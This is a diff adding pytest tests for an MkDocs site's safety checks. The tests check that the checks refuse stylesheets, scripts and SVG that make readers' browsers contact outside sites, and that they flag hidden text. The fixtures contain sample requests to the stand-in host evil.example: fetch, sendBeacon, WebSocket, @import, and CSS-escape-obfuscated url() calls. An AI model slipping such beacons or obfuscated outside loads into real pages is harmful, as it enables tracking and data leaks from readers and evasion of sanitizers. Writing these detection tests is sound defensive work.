@@ -190,3 +190,172 @@ def test_make_check_reports_ids_the_theme_or_a_preview_card_uses():
             '<p id="term-preview-rag">Forged</p>\n\n<p id="a">1</p>\n\n<p id="a">2</p>\n')
     assert [(p.line, p.message) for p in raw_html_problems("x.md", text)] == [
         (6, id_sentence("__config")), (8, id_sentence("term-preview-rag")), (12, id_sentence("a"))]
+
+
+def test_css_escapes_do_not_hide_an_outside_address():
+    """Chromium fetches fill="url(\\68ttps://…)" and fill="u\\72l(https://…)" (tried by hand)."""
+    for raw in (r'<svg><rect fill="url(\68ttps://evil.example/a.svg#g)"/></svg>',
+                r'<svg><rect fill="u\72l(https://evil.example/b.svg#g)"/></svg>',
+                r'<svg><rect fill="url(\2f\2f evil.example/c.svg#g)"/></svg>'):
+        assert any("loads a file from outside the site" in s for s in sanitize(raw).refused), raw
+        assert any("outside the site" in p for p in page_problems(raw)), raw
+    assert sanitize('<svg><rect fill="url(#local)"/></svg>').refused == []
+
+
+def test_a_mermaid_block_would_make_the_theme_fetch_mermaid_from_unpkg():
+    from safety.built_page import theme_classes
+    text = '---\ntitle: X\n---\n\n<pre class="mermaid">graph TD; A-->B</pre>\n\n```mermaid\ngraph TD\n```\n'
+    found = [(p.line, p.message) for p in raw_html_problems("x.md", text)]
+    assert len(found) == 1 and found[0][0] == 5 and "unpkg.com" in found[0][1], found
+    # Material's bundle: `M("pre.mermaid", e).map(i => Zn(i))` loads https://unpkg.com/mermaid@11.
+    bundle = next((ROOT / ".venv").glob("lib/python*/site-packages/material/templates/assets/javascripts/bundle.*.min.js"))
+    assert '"pre.mermaid"' in bundle.read_text(encoding="utf-8") and "unpkg.com/mermaid" in bundle.read_text(encoding="utf-8")
+    assert theme_classes('<pre class="x mermaid">a</pre>') == ["mermaid"]
+
+
+STYLESHEET = """/* url(https://in-a-comment.example/x.png) is not read */
+@namespace svg url(http://www.w3.org/2000/svg);
+@import url(https://evil.example/a.css);
+@import "//evil.example/b.css";
+.a { background: url( "https://evil.example/c.png" ); }
+.b { background: url(../images/ok.png), url('data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"/%3E'); }
+.c { background-image: image-set("../x.png" 1x, "https://evil.example/d.png" 2x); }
+.d { background: u\\72l(\\68ttps://evil.example/e.png); }
+@font-face { font-family: X; src: local("X"),
+  url(
+    "https://evil.example/f.woff2") format("woff2"); }
+"""
+SCRIPT = """// "https://in-a-comment.example/" is not a request, but a quoted address is refused anyway
+const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
+fetch("https://evil.example/a");
+importScripts('//evil.example/b.js');
+new WebSocket(`wss://evil.example/${room}`);
+navigator.sendBeacon("http://evil.example/c", data);
+const ok = "../search/search_index.json", path = "//", note = "a // b";
+"""
+
+
+def test_stylesheets_and_scripts_name_no_other_sites_address():
+    from safety.asset_files import script_addresses, stylesheet_addresses
+    assert stylesheet_addresses(STYLESHEET) == [
+        (3, "https://evil.example/a.css"), (4, "//evil.example/b.css"), (5, "https://evil.example/c.png"),
+        (7, "https://evil.example/d.png"), (8, "https://evil.example/e.png"), (11, "https://evil.example/f.woff2")]
+    assert script_addresses(SCRIPT) == [
+        (1, "https://in-a-comment.example/"), (3, "https://evil.example/a"), (4, "//evil.example/b.js"),
+        (5, "wss://evil.example/${room}"), (6, "http://evil.example/c")]
+
+
+def test_the_sites_own_stylesheets_and_scripts_pass():
+    from checks import default_template_dirs
+    from checks.assets import asset_problems, published_assets
+    docs = ROOT / "docs"
+    mine = published_assets(docs, default_template_dirs(docs))
+    assert {"docs/assets/javascripts/term-preview.js", "docs/assets/stylesheets/extra.css"} <= set(mine)
+    assert not any("site-packages" in str(path) for path in mine.values())  # Material's are its own
+    assert asset_problems(docs, default_template_dirs(docs)) == []
+    from safety.asset_files import script_addresses  # the search hook's worker is published too
+    assert script_addresses((ROOT / "hooks/search/reader_queries.js").read_text(encoding="utf-8")) == []
+
+
+def test_make_check_refuses_a_stylesheet_or_script_that_asks_another_site(tmp_path):
+    from checks import all_problems
+    import shutil
+    docs = tmp_path / "docs"
+    shutil.copytree(ROOT / "docs", docs)
+    (docs / "assets/stylesheets/extra.css").write_text(
+        (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8") + "\n@import url(https://evil.example/x.css);\n",
+        encoding="utf-8")
+    (docs / "assets/javascripts/new.js").write_text('\nfetch("https://evil.example/track");\n', encoding="utf-8")
+    found = [str(p) for p in all_problems(docs)]
+    lines = (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8").count("\n")
+    assert [p for p in found if "another site" in p] == [
+        f"assets/javascripts/new.js:2: this script makes readers' browsers ask another site for "
+        "'https://evil.example/track'. Readers on the intranet cannot reach it, and the site makes no request "
+        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
+        "or remove the line.",
+        f"assets/stylesheets/extra.css:{lines}: this stylesheet makes readers' browsers ask another site for "
+        "'https://evil.example/x.css'. Readers on the intranet cannot reach it, and the site makes no request "
+        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
+        "or remove the line."]
+
+
+def test_hidden_text_in_a_pages_own_html_is_refused_at_its_line():
+    from safety.precheck import raw_html_problems
+    text = ('---\ntitle: X\n---\n\nA word on hidden things is fine.\n\n<p hidden>secret words</p>\n\n'
+            'By attr_list\n{: hidden="" }\n\n<div class="glossary-print-list">x</div>\n\n'
+            '<span style="vertical-align: -9999px">far</span> <span style="vertical-align: middle">ok</span>\n\n'
+            '??? note "Opens"\n    Text a reader opens is fine.\n')
+    found = [(p.line, p.message.split(" hides")[0].split(" can")[0]) for p in raw_html_problems("x.md", text)]
+    assert found == [(7, "the attribute 'hidden' on <p>"), (10, "the attribute 'hidden' on <p>"),
+                     (12, "the class 'glossary-print-list' is the site's own and"),
+                     (14, "the style 'vertical-align:-9999px' on <span>")], found
+
+
+def test_the_hiding_classes_are_the_ones_our_css_hides_on_screen():
+    """Every class our screen CSS sets to display: none (print.css is for paper) is in the list."""
+    from safety.hiding import HIDING_CLASSES
+    hidden = set()
+    for name in ("extra.css", "term-preview.css"):
+        css = (ROOT / "docs/assets/stylesheets" / name).read_text(encoding="utf-8")
+        css = re.sub(r"@media print\s*\{(?:[^{}]*\{[^{}]*\})*[^{}]*\}", "", re.sub(r"/\*.*?\*/", "", css, flags=re.S))
+        for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", css):
+            if re.search(r"display\s*:\s*none", body):
+                hidden |= {c for c in re.findall(r"\.([\w-]+)", selectors.split(",")[-1].split()[-1])
+                           if not c.startswith("md-")}
+    hidden |= set(re.findall(r"^\.([\w-]+) \{ display: none; \}", (ROOT / "docs/assets/stylesheets/print.css")
+                             .read_text(encoding="utf-8"), re.M))  # print.css's screen-only rules
+    assert hidden and hidden <= HIDING_CLASSES, hidden - HIDING_CLASSES
+
+
+def test_search_exclude_only_on_the_printed_documents_and_no_boost():
+    from core.sources import read_pages, split_front_matter
+    from safety.hiding import SEARCH_EXCLUDED, search_field_problems
+    pages = read_pages(ROOT / "docs")
+    excluded = {path for path, text in pages.items()
+                if ((split_front_matter(path, text)[0] or {}).get("search") or {}).get("exclude")}
+    assert {p.replace(".en.md", ".md") for p in excluded} == SEARCH_EXCLUDED  # every one used, in both languages
+    text = "---\ntitle: X\nsearch:\n  exclude: true\n  boost: 9\n---\n"
+    found = [(p.line, p.message[:20]) for p in search_field_problems("terms/x.md", {"search": {"exclude": True, "boost": 9}}, text)]
+    assert found == [(3, "'search: exclude' ta"), (3, "'search: boost' puts")]
+    assert search_field_problems("trainer-notes.en.md", {"search": {"exclude": True}}, text) == []
+
+
+# Material's own scripts and stylesheets are published too. The addresses on other sites they
+# name, and why a reader's browser never asks for them on this site. A Material upgrade that
+# adds one fails here, for someone to judge.
+MATERIAL_ADDRESSES = {
+    # pre.mermaid in a page: refused (built_page.theme_classes), and dropped from a refused build.
+    "https://unpkg.com/mermaid@11/dist/mermaid.min.js": "class mermaid",
+    # Only where window.ResizeObserver is missing: browsers older than Chrome 64, Firefox 69,
+    # Safari 13.1 (2018-2020). Those would ask unpkg.com and fail; nothing else breaks by it.
+    "https://unpkg.com/resize-observer-polyfill": "old browsers",
+    # Repository facts, only with `repo_url` (the header's source link, data-md-component="source").
+    "https://api.github.com/repos/${e}/${t}": "repo_url", "https://api.github.com/users/${e}": "repo_url",
+    "https://${e}/api/v4/projects/${encodeURIComponent(t)}": "repo_url",
+    # lunr/wordcut.js: `ch=="\u2003"//nbsp and emsp`, a comment after a string, not an address.
+    "//nbsp": "a comment",
+}
+
+
+def test_materials_bundled_assets_name_only_addresses_this_site_never_requests():
+    from safety.asset_files import script_addresses, stylesheet_addresses
+    assets = next((ROOT / ".venv").glob("lib/python*/site-packages/material/templates/assets"))
+    found = {}
+    for path in [*assets.rglob("*.js"), *assets.rglob("*.css")]:
+        text = path.read_text(encoding="utf-8", errors="replace")
+        for _, address in (stylesheet_addresses if path.suffix == ".css" else script_addresses)(text):
+            found[address] = path.name
+    assert set(found) == set(MATERIAL_ADDRESSES), found
+    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
+    assert not re.search(r"^repo_url:", config, re.M)  # the edit links use extra.git_host instead
+    assert re.search(r"^  font: false$", config, re.M)  # else base.html links fonts.googleapis.com
+    html = (ROOT / ".venv").glob("lib/python*/site-packages/material/templates/partials/source.html")
+    assert 'data-md-component="source"' in next(html).read_text(encoding="utf-8")
+    assert any("data-md-component" in s for s in sanitize('<div data-md-component="source">x</div>').refused)
+
+
+def test_hidden_text_from_a_snippet_is_said_to_be_in_the_snippet():
+    from safety.hiding import hidden_text_problems
+    source = '---\ntitle: X\n---\n\n--8<-- "notes.md"\n'
+    [problem] = hidden_text_problems("faq.md", source, "<p>Text.</p><p hidden>from the snippet</p>")
+    assert problem.line == 1 and problem.message.endswith("(It is in a snippet this page includes, in docs/_snippets/.)")
